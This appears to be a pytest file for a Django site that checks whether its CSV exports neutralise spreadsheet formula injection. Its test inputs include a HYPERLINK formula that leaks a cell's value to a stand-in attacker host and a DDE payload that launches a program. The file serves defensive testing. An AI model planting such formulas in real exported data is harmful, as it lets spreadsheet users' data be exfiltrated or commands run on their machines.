"""Open-data exports: a contribution (or lab) text that starts like a spreadsheet formula must not run as one
when the CSV is opened in a spreadsheet (CSV/formula injection, OWASP). Cells starting with = + - @ (or a tab /
carriage return) should be prefixed with an apostrophe, or the text otherwise neutralised."""

import csv
import io

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_consultation_csv_export_neutralises_formulas(client, section, contribution_factory, alice):
    for formula in FORMULAS:
        contribution_factory(alice, section, body=formula + " et voici mon avis argumenté sur la section.")
    response = client.get(reverse("consult:export", args=[section.page_id, "csv"]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if dangerous(cell)]


def test_living_lab_csv_export_neutralises_formulas(client, lab_factory):
    lab_factory(title='=HYPERLINK("https://evil.example")', description="@SUM(1+1) description")
    response = client.get(reverse("livinglabs:export", args=["csv"]))
    assert response.status_code == 200
    content = response.content if not response.streaming else b"".join(response.streaming_content)
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if dangerous(cell)]


def test_numbers_stay_numbers_in_exports():
    from core.csvsafe import safe_row

    assert safe_row([-21.11, 3, "-2+3", "texte"]) == [-21.11, 3, "'-2+3", "texte"]
